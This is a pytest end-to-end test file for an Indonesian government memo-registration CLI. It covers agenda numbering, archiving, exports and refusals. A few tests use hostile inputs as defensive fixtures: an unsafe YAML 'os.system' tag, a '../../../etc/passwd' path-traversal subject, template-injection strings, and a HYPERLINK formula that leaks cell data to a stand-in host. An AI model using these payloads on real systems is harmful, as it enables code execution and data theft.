"""End to end through the command line, on temporary workspaces."""

import csv
import datetime as dt
import json
import shutil

import openpyxl
import pytest
from click.testing import CliRunner
from support.builders import HEADER, docx_text, scan, tab_memo, table_memo, yaml_memo
from support.cli import jsonl
from support.workspace import SAMPLES, make_workspace

from pipeline.cli import main
from pipeline.register import open_register


def today(ws):
    return dt.datetime.now(ws.timezone).date()


def test_memo_becomes_agenda_entry_sheet_and_case(config, cli):
    tab_memo(config.inbox / "nota.docx")
    result = cli("run")
    assert result.exit_code == 0, result.output
    assert "1 diterima." in result.output
    assert list(config.inbox.iterdir()) == [config.inbox / "ditolak", config.inbox / "duplikat"] or sorted(
        p.name for p in config.inbox.iterdir() if not p.name.startswith(".")
    ) == ["ditolak", "duplikat"]

    year = today(config).year
    [entry] = jsonl(cli("register", "--json"))
    assert entry["buku"] == "masuk" and entry["tahun"] == year and entry["nomor_urut"] == 1
    assert entry["nomor_agenda"] == f"0001/SM/{year}"
    assert entry["nomor_surat"] == HEADER["Nomor"]
    assert entry["tanggal_surat"] == "2026-10-07"
    assert entry["dari"] == HEADER["Dari"] and entry["sifat"] == "Segera"
    assert entry["kasus"] == f"{year}-0001"
    found = json.loads(cli("verify", "--kode", entry["kode"], "--json").output)  # the Lembar Disposisi's code
    assert (found["status"], found["dokumen"].rsplit("/", 1)[1]) == ("sah", "lembar-disposisi.docx")
    folder = f"archive/{year}/surat-masuk/0001_permohonan-pemanfaatan-spse"
    assert entry["berkas"] == {
        "asli_nota.docx": f"{folder}/asli_nota.docx",
        "lembar-disposisi.docx": f"{folder}/lembar-disposisi.docx",
        "metadata.json": f"{folder}/metadata.json",
    }
    assert set(entry["sha256"]) == set(entry["berkas"])

    sheet = config.outbox / entry["kasus"] / f"{entry['kasus']}_lembar-disposisi.docx"
    text = docx_text(sheet)
    for expected in (
        "LEMBAR DISPOSISI",
        "KEMENTERIAN DALAM NEGERI",
        f"Surat dari\t:\t{HEADER['Dari']}",
        f"Nomor surat\t:\t{HEADER['Nomor']}",
        "Tanggal surat\t:\t7 Oktober 2026",
        f"Nomor agenda\t:\t0001/SM/{year}",
        "Hal\t:\tPermohonan Pemanfaatan SPSE",
        "☐ Sangat Segera    ☒ Segera    ☐ Rahasia    ☐ Biasa",
        "Kepala Pusat Data, Informasi, Komunikasi dan Telekomunikasi",
        "Kepala Bidang Telematika",
        "Kepala Subbidang Aplikasi",
        "Dengan hormat harap:",
        "Catatan:",
    ):
        assert expected in text, expected


def test_original_archived_byte_for_byte_and_read_only(config, cli):
    original = tab_memo(config.inbox / "nota.docx").read_bytes()
    cli("run")
    [archived] = config.archive.glob("*/surat-masuk/*/asli_nota.docx")
    assert archived.read_bytes() == original
    assert not archived.stat().st_mode & 0o222
    meta = json.loads((archived.parent / "metadata.json").read_text())
    assert meta["nota_dinas"]["nomor"] == HEADER["Nomor"]


def test_numbers_are_gapless_across_runs_and_refusals(config, cli):
    tab_memo(config.inbox / "a.docx", {**HEADER, "Nomor": "1/A/2026"})
    (config.inbox / "rusak.docx").write_bytes(b"")
    cli("run")
    table_memo(config.inbox / "b.docx", {**HEADER, "Nomor": "2/B/2026"})
    yaml_memo(config.inbox / "c.yaml")
    cli("run")
    entries = jsonl(cli("register", "--json", "--buku", "masuk"))
    assert [e["nomor_urut"] for e in entries] == [1, 2, 3]
    assert len({e["nomor_agenda"] for e in entries}) == 3


@pytest.mark.parametrize("layout", ["tab", "split", "table", "table2", "yaml"])
def test_every_layout_files_the_same_memo(config, cli, layout):
    path = config.inbox / ("m.yaml" if layout == "yaml" else "m.docx")
    {
        "tab": lambda: tab_memo(path),
        "split": lambda: tab_memo(path, split_runs=True),
        "table": lambda: table_memo(path),
        "table2": lambda: table_memo(path, colon_cell=False),
        "yaml": lambda: yaml_memo(
            path, nomor=HEADER["Nomor"], tanggal="07-10-2026", dari=HEADER["Dari"], hal="Permohonan Pemanfaatan SPSE"
        ),
    }[layout]()
    cli("run")
    [entry] = jsonl(cli("register", "--json"))
    assert (entry["nomor_surat"], entry["tanggal_surat"]) == (HEADER["Nomor"], "2026-10-07")


@pytest.mark.parametrize(
    "written, iso",
    [
        ("Jakarta, 18 Nopember 2026", "2026-11-18"),
        ("3 Pebruari 2026", "2026-02-03"),
        ("18-11-2026", "2026-11-18"),
        ("18/11/2026", "2026-11-18"),
        ("2026-11-18", "2026-11-18"),
    ],
)
def test_date_forms_end_to_end(config, cli, written, iso):
    tab_memo(config.inbox / "m.docx", {**HEADER, "Tanggal": written})
    cli("run")
    assert jsonl(cli("register", "--json"))[0]["tanggal_surat"] == iso


def test_scan_with_sidecar_files_both(config, cli):
    pdf = scan(config.inbox / "surat-otda.pdf").read_bytes()
    yaml_memo(config.inbox / "surat-otda.yaml")
    result = cli("run")
    assert "2 diterima." in result.output
    [entry] = jsonl(cli("register", "--json"))
    assert {"asli_surat-otda.pdf", "asli_surat-otda.yaml"} <= set(entry["berkas"])
    archived = config.root / entry["berkas"]["asli_surat-otda.pdf"]
    assert archived.read_bytes() == pdf
    status = jsonl(cli("status", "--json"))[0]
    assert status["unit"] == "Direktorat Jenderal Otonomi Daerah"


def test_scan_without_sidecar_waits_for_completion(config, cli):
    """A scan alone is a letter that cannot be registered as it stands: it waits, unchanged, in
    inbox/lengkapi/ beside a draft (tests/test_pdf_memo.py reads real ones)."""
    data = scan(config.inbox / "pindaian.pdf").read_bytes()
    result = cli("run")
    assert "menunggu" in result.output
    assert "pindaian.yaml" in result.output
    assert (config.inbox / "lengkapi" / "pindaian.pdf").read_bytes() == data
    assert (config.inbox / "lengkapi" / "pindaian.yaml").is_file()
    [row] = jsonl(cli("journal", "--json"))
    assert (row["berkas"], row["hasil"], row["lokasi"]) == ("pindaian.pdf", "menunggu", "inbox/lengkapi/pindaian.pdf")
    assert row["alasan"][0] == (
        "Surat ini hasil pindaian (tanpa lapisan teks), sehingga isiannya tidak dapat dibaca dari teksnya."
    )


def test_refused_file_kept_with_reason(config, cli):
    # A memo typed by staff (YAML, no letter beside it) is their own data: refused with a reason.
    # An incoming letter lacking Nomor waits for a draft instead (tests/test_lengkapi.py).
    original = yaml_memo(config.inbox / "tanpa-nomor.yaml", nomor=None).read_bytes()
    result = cli("run")
    assert result.exit_code == 0
    assert "1 ditolak." in result.output
    kept = config.rejected_dir / "tanpa-nomor.yaml"
    assert kept.read_bytes() == original
    reason = (config.rejected_dir / "tanpa-nomor.yaml.alasan.txt").read_text(encoding="utf-8")
    assert reason.startswith("BERKAS DITOLAK\n\nBerkas   : tanpa-nomor.yaml\n")
    assert "1. “Nomor” tidak ditemukan pada kepala Nota Dinas tanpa-nomor.yaml.\n" in reason
    assert (
        "Bila berkas ini data yang disiapkan petugas (YAML, CSV atau Excel), perbaiki sesuai alasan "
        "di atas, lalu letakkan kembali di folder inbox."
    ) in reason
    [row] = jsonl(cli("journal", "--json"))
    assert row["hasil"] == "ditolak" and row["berkas"] == "tanpa-nomor.yaml"
    assert row["alasan"][0].startswith("“Nomor” tidak ditemukan")
    assert jsonl(cli("register", "--json")) == []


@pytest.mark.parametrize(
    "name, content, reason",
    [
        ("kosong.docx", b"", "Berkas kosong (0 bita)."),
        ("bukan.docx", b"%PDF-1.4 palsu", "Berkas bernama .docx tetapi isinya bukan dokumen Word."),
        ("tag.yaml", b"jenis: nota_dinas\nx: !!python/name:os.system\n", "memuat tag yang tidak diizinkan"),
        ("acak.bin", b"\x00\x01\x02garbage", "Jenis berkas tidak dikenali."),
    ],
)
def test_refusals_do_not_stop_the_batch(config, cli, name, content, reason):
    (config.inbox / name).write_bytes(content)
    tab_memo(config.inbox / "baik.docx")
    result = cli("run")
    assert "1 ditolak" in result.output and "1 diterima" in result.output
    assert reason in (config.rejected_dir / f"{name}.alasan.txt").read_text(encoding="utf-8")
    assert (config.rejected_dir / name).read_bytes() == content


def test_same_name_refused_twice_keeps_both(config, cli):
    for content in (b"", b"\x00x"):
        (config.inbox / "x.docx").write_bytes(content)
        cli("run")
    assert (config.rejected_dir / "x.docx").read_bytes() == b""
    assert (config.rejected_dir / "x (2).docx").read_bytes() == b"\x00x"
    assert (config.rejected_dir / "x (2).docx.alasan.txt").exists()


def test_exact_duplicate_goes_to_duplikat(config, cli):
    path = tab_memo(config.inbox / "nota.docx")
    copy = path.read_bytes()
    cli("run")
    (config.inbox / "nota lagi.docx").write_bytes(copy)
    result = cli("run")
    assert "1 duplikat." in result.output
    assert (config.duplicate_dir / "nota lagi.docx").read_bytes() == copy
    reason = (config.duplicate_dir / "nota lagi.docx.alasan.txt").read_text(encoding="utf-8")
    assert "sudah diterima pada" in reason and "sebagai nota.docx" in reason
    assert len(jsonl(cli("register", "--json"))) == 1
    assert [r["hasil"] for r in jsonl(cli("journal", "--json"))] == ["diterima", "duplikat"]


def test_same_memo_in_another_file_refused_with_its_agenda(config, cli):
    tab_memo(config.inbox / "nota.docx")
    cli("run")
    table_memo(config.inbox / "nota-ulang.docx")
    cli("run")
    reason = (config.rejected_dir / "nota-ulang.docx.alasan.txt").read_text(encoding="utf-8")
    year = today(config).year
    assert f"sudah tercatat dengan nomor agenda 0001/SM/{year}" in reason


def test_lock_files_and_partials_ignored(config, cli):
    names = [
        "~$nota.docx",
        ".~lock.nota.docx#",
        "x.tmp",
        "y.part",
        "z.filepart",
        "u.crdownload",
        "Thumbs.db",
        "desktop.ini",
        ".DS_Store",
        "._nota.docx",
    ]
    for name in names:
        (config.inbox / name).write_bytes(b"\x00sementara")
    result = cli("run")
    assert "Tidak ada berkas baru di inbox." in result.output
    assert all((config.inbox / name).exists() for name in names)
    rows = jsonl(cli("journal", "--json"))
    assert sorted(r["berkas"] for r in rows) == sorted(names)
    assert {r["hasil"] for r in rows} == {"diabaikan"}


def test_template_placeholder_in_data_printed_as_written(config, cli):
    tab_memo(config.inbox / "m.docx", {**HEADER, "Hal": "Uji {{ 7*7 }} <b>tebal</b> & {% if 1 %}x{% endif %}"})
    cli("run")
    [sheet] = config.outbox.glob("*/*.docx")
    assert "Uji {{ 7*7 }} <b>tebal</b> & {% if 1 %}x{% endif %}" in docx_text(sheet)


def test_hostile_subject_cannot_escape_archive(config, cli):
    tab_memo(config.inbox / "m.docx", {**HEADER, "Hal": "../../../etc/passwd"})
    cli("run")
    [folder] = config.archive.glob("*/surat-masuk/*")
    assert folder.name == "0001_etc-passwd"


def test_status_json_shape(config, cli):
    tab_memo(config.inbox / "nota.docx")
    cli("run")
    [item] = jsonl(cli("status", "--json"))
    assert {"kasus", "rujukan", "unit", "status", "langkah_sekarang", "langkah", "data", "masalah"} <= set(item)
    assert item["rujukan"] == HEADER["Nomor"]
    assert item["unit"] == "Badan Penelitian dan Pengembangan"
    assert item["status"] == "berjalan" and item["langkah_sekarang"] == 3
    assert item["data"] == {"ppk": 0, "panitia": 0, "paket": 0, "pagu_total": 0}
    assert item["masalah"] == []
    steps = item["langkah"]
    assert [s["no"] for s in steps] == list(range(1, 12))
    assert {"no", "key", "nama", "peran", "status", "mulai", "selesai", "oleh", "target_menit", "dokumen"} <= set(
        steps[0]
    )
    assert [s["key"] for s in steps[:3]] == ["nota_dinas_masuk", "agenda_masuk", "disposisi_kapus"]
    assert [s["oleh"] for s in steps[:3]] == [HEADER["Dari"], "pipeline", ""]
    assert [s["status"] for s in steps[:4]] == ["selesai", "selesai", "berjalan", "menunggu"]
    assert steps[1]["dokumen"][0].endswith("/lembar-disposisi.docx")
    assert steps[2]["peran"] == "Kapusdatinkomtel" and steps[2]["target_menit"] == 5


def test_status_text_and_unknown_case(config, cli):
    tab_memo(config.inbox / "nota.docx")
    cli("run")
    result = cli("status", HEADER["Nomor"])
    assert "Menunggu Kapusdatinkomtel" in result.output and "Target" in result.output
    missing = cli("status", "9999-0001")
    assert missing.exit_code == 1
    assert "Kasus atau nomor surat “9999-0001” tidak ditemukan." in missing.output


def test_status_shows_the_unfinished_cases_and_all_of_them_with_all(config, cli):
    """Staff ask status what is pending; a year's finished cases are in the register and --all."""
    tab_memo(config.inbox / "nota.docx")
    tab_memo(config.inbox / "nota2.docx", {**HEADER, "Nomor": "006/88/ULP-LITBANG/X/2026"})
    cli("run")
    with open_register(config) as register, register.transaction():
        register.set_case_status("2026-0001", "selesai")
    assert [i["kasus"] for i in jsonl(cli("status", "--json"))] == ["2026-0002"]
    assert [i["kasus"] for i in jsonl(cli("status", "--json", "--all"))] == ["2026-0001", "2026-0002"]
    assert "Kasus 2026-0001" in cli("status", "2026-0001").output
    with open_register(config) as register, register.transaction():
        register.set_case_status("2026-0002", "selesai")
    empty = cli("status")
    assert empty.exit_code == 0 and "Tidak ada kasus yang sedang berjalan" in empty.output
    assert "pipeline status --all" in empty.output


def test_journal_json_shape(config, cli):
    tab_memo(config.inbox / "nota.docx")
    cli("run")
    [row] = jsonl(cli("journal", "--json"))
    assert {"berkas", "sha256", "diterima", "hasil", "jenis", "kasus", "alasan"} <= set(row)
    assert (row["hasil"], row["jenis"], row["alasan"]) == ("diterima", "nota_dinas", [])
    assert len(row["sha256"]) == 64 and row["diterima"].startswith(str(today(config).year))


def test_register_exports(config, cli, tmp_path):
    tab_memo(config.inbox / "nota.docx")
    cli("run")
    assert cli("register", "--buku", "masuk", "--csv", str(tmp_path / "m.csv")).exit_code == 0
    with open(tmp_path / "m.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert rows[0] == [
        "No",
        "Tanggal Terima",
        "Nomor Agenda",
        "Pengirim",
        "Tanggal dan Nomor Surat",
        "Isi Ringkasan",
        "Keterangan",
    ]
    assert rows[1][4] == f"7 Oktober 2026, {HEADER['Nomor']}"
    cli("register", "--xlsx", str(tmp_path / "agenda.xlsx"))
    book = openpyxl.load_workbook(tmp_path / "agenda.xlsx")
    assert book.sheetnames[:2] == ["Agenda Masuk", "Agenda Keluar"] and len(book.sheetnames) == 6
    assert book["Agenda Masuk"]["D5"].value == HEADER["Dari"]
    assert book["Agenda Keluar"]["B4"].value == "Nomor Surat"


def test_register_csv_needs_book(config, cli, tmp_path):
    result = cli("register", "--csv", str(tmp_path / "x.csv"))
    assert result.exit_code == 2


def test_verify_detects_a_changed_archive_file(config, cli):
    tab_memo(config.inbox / "nota.docx")
    cli("run")
    assert "Arsip utuh: 3 berkas dari 1 catatan register" in cli("verify").output
    [meta] = config.archive.glob("*/surat-masuk/*/metadata.json")
    meta.chmod(0o644)
    meta.write_text("{}")
    result = cli("verify")
    assert result.exit_code == 1
    assert "metadata.json telah berubah sejak diarsipkan" in result.output


def test_bad_config_is_one_line_exit_1(tmp_path):
    (tmp_path / "config.yaml").write_text("folderz: {}\n")
    result = CliRunner().invoke(main, ["--config", str(tmp_path / "config.yaml"), "run"])
    assert result.exit_code == 1
    assert result.output.strip().count("\n") == 0
    assert "folderz: tidak dikenal" in result.output


def test_unknown_command_exit_2(cli):
    assert cli("terbang").exit_code == 2


@pytest.mark.parametrize("command", [None, "init", "run", "watch", "status", "register", "journal", "verify"])
def test_every_command_has_help(command):
    args = [command, "--help"] if command else ["--help"]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0
    assert "Usage:" in result.output
    if command:
        assert len(main.commands[command].help) > 20


def test_init_creates_workspace_and_is_idempotent(tmp_path):
    runner = CliRunner()
    result = runner.invoke(main, ["init", str(tmp_path / "baru")])
    assert result.exit_code == 0 and "Ruang kerja siap" in result.output
    for name in (
        "config.yaml",
        "inbox",
        "inbox/ditolak",
        "inbox/duplikat",
        "outbox",
        "archive",
        "templates/lembar_disposisi.docx",
    ):
        assert (tmp_path / "baru" / name).exists(), name
    (tmp_path / "baru" / "config.yaml").write_text("# milik staf\n")
    runner.invoke(main, ["init", str(tmp_path / "baru")])
    assert (tmp_path / "baru" / "config.yaml").read_text() == "# milik staf\n"


def test_edited_template_with_typo_keeps_input_waiting(config, cli):
    import docx

    template = config.templates_dir / "lembar_disposisi.docx"
    document = docx.Document(str(template))
    document.add_paragraph("{{ salah_ketik }}")
    document.save(str(template))
    tab_memo(config.inbox / "nota.docx")
    result = cli("run")
    assert "menunggu" in result.output
    assert (config.inbox / "nota.docx").exists()
    recorded, lying = jsonl(cli("journal", "--json"))
    assert recorded["hasil"] == "menunggu" and "salah_ketik" in recorded["alasan"][0]
    assert (lying["berkas"], lying["hasil"], lying["sha256"]) == ("nota.docx", "menunggu", "")
    assert jsonl(cli("register", "--json")) == []
    assert not list(config.archive.glob("*/surat-masuk/*"))


@pytest.mark.skipif(not SAMPLES.exists(), reason="shared samples not present")
def test_shared_samples_in_a_new_workspace(tmp_path):
    ws = make_workspace(tmp_path / "ws")
    for sample in SAMPLES.iterdir():
        shutil.copy(sample, ws.inbox / sample.name)
    runner = CliRunner()
    runner.invoke(main, ["--config", str(ws.path), "run"], catch_exceptions=False)
    result = runner.invoke(main, ["--config", str(ws.path), "register", "--json"])
    entries = {e["nomor_surat"]: e for e in jsonl(result)}
    assert set(entries) == {"005/88/ULP-LITBANG/X/2026", "050/17/ULP-OTDA/XI/2026"}
    litbang = entries["005/88/ULP-LITBANG/X/2026"]
    assert litbang["tanggal_surat"] == "2026-10-07" and litbang["sifat"] == "Biasa"
    kertas = entries["050/17/ULP-OTDA/XI/2026"]
    assert kertas["tanggal_surat"] == "2026-11-03" and kertas["sifat"] == "Segera"
    for entry in entries.values():
        sheet = ws.root / entry["berkas"]["lembar-disposisi.docx"]
        assert f"Nomor agenda\t:\t{entry['nomor_agenda']}" in docx_text(sheet)


def test_brackets_in_data_do_not_break_the_console(config, cli):
    tab_memo(config.inbox / "m.docx", {**HEADER, "Hal": "[/] [bold]Permohonan[/bold] [SEGERA]"})
    result = cli("run")
    assert result.exit_code == 0 and "1 diterima." in result.output
    result = cli("status", HEADER["Nomor"])
    assert result.exit_code == 0
    assert cli("register").exit_code == 0 and cli("journal").exit_code == 0
    assert jsonl(cli("register", "--json"))[0]["hal"] == "[/] [bold]Permohonan[/bold] [SEGERA]"


def test_exports_never_carry_formulas_from_data(config, cli, tmp_path):
    tab_memo(
        config.inbox / "m.docx",
        {**HEADER, "Hal": '=HYPERLINK("http://x/"&A1,"klik")', "Dari": "+62 ULP", "Nomor": "-1/2026"},
    )
    cli("run")
    cli("register", "--buku", "masuk", "--csv", str(tmp_path / "m.csv"), "--xlsx", str(tmp_path / "m.xlsx"))
    with open(tmp_path / "m.csv", encoding="utf-8-sig", newline="") as handle:
        row = list(csv.reader(handle, delimiter=";"))[1]
    assert row[3] == "'+62 ULP" and row[5] == '\'=HYPERLINK("http://x/"&A1,"klik")'
    sheet = openpyxl.load_workbook(tmp_path / "m.xlsx")["Agenda Masuk"]
    hal = sheet.cell(row=5, column=6)
    assert hal.value == '=HYPERLINK("http://x/"&A1,"klik")' and hal.data_type == "s"
    assert sheet.cell(row=5, column=4).data_type == "s"


@pytest.mark.parametrize("target", ["archive/register.sqlite3", "archive/buku.xlsx", "inbox/buku.csv", "config.yaml"])
def test_exports_never_write_over_what_the_pipeline_keeps(config, cli, target):
    tab_memo(config.inbox / "m.docx")
    cli("run")
    before = config.register_path.read_bytes()
    option = "--csv" if target.endswith(".csv") else "--xlsx"
    result = cli("register", "--buku", "masuk", option, str(config.root / target))
    assert result.exit_code == 1 and "Berkas keluaran" in result.output
    assert config.register_path.read_bytes() == before
    assert not (config.root / target).exists() or target in ("archive/register.sqlite3", "config.yaml")


def _several_files(ws):
    for n in range(4):
        yaml_memo(ws.inbox / f"nota-{n}.yaml", nomor=f"050/{n + 1}/ULP-OTDA/XI/2026")


def _pipeline(ws, *args):
    import sys

    return [sys.executable, "-m", "pipeline", "--config", str(ws.path), *args]


def test_run_shows_a_progress_bar_on_a_terminal(config):
    import os
    import pty
    import select
    import subprocess

    _several_files(config)
    master, slave = pty.openpty()
    process = subprocess.Popen(_pipeline(config, "run"), stdout=slave, stderr=slave, stdin=slave)
    os.close(slave)
    seen = b""
    while select.select([master], [], [], 60)[0]:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # the terminal closed with the process
            break
        if not chunk:
            break
        seen += chunk
    assert process.wait(timeout=60) == 0
    text = seen.decode("utf-8", "replace")
    assert "Memproses inbox" in text and "4/4" in text
    assert "4 diterima" in text


def test_run_is_quiet_in_a_pipe_and_speaks_json_lines(config):
    import subprocess

    _several_files(config)
    (config.inbox / "rusak.docx").write_bytes(b"bukan dokumen")
    result = subprocess.run(_pipeline(config, "run", "--json"), capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "Memproses inbox" not in result.stdout + result.stderr
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert sorted(line["hasil"] for line in lines) == ["diterima"] * 4 + ["ditolak"]
    [refused] = [line for line in lines if line["hasil"] == "ditolak"]
    assert refused["berkas"] == "rusak.docx" and refused["alasan"]
    assert {"berkas", "hasil", "jenis", "kasus", "alasan", "keterangan"} <= set(lines[0])
